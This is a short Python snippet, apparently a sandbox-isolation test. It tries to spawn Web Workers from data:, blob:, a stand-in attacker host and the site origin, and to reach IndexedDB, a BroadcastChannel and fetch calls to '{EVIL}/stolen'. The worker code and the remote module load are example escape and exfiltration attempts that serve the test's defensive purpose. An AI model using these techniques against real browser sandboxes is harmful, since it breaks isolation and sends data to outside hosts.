# Tries a worker of its own, with a fresh global scope, from a data: and from a blob: address.
scope = await find_global()
SCRIPT = f"""
try {{ indexedDB.open("stolen") }} catch {{}}
try {{ new BroadcastChannel("victim").postMessage("stolen") }} catch {{}}
fetch("{EVIL}/stolen", {{mode: "no-cors"}}).catch(() => {{}});
fetch("{SITE}stolen").catch(() => {{}});
"""
await attempt("data:", lambda: scope.Worker.new("data:text/javascript," + scope.encodeURIComponent(SCRIPT)))
await attempt("blob:", lambda: scope.Worker.new(scope.URL.createObjectURL(scope.Blob.new(to_js([SCRIPT])))))
await attempt("module", lambda: scope.Worker.new(EVIL + "/stolen", options(type="module")))
await attempt("site", lambda: scope.Worker.new(SITE + "stolen"))
await asyncio.sleep(0.5)
print("tried")
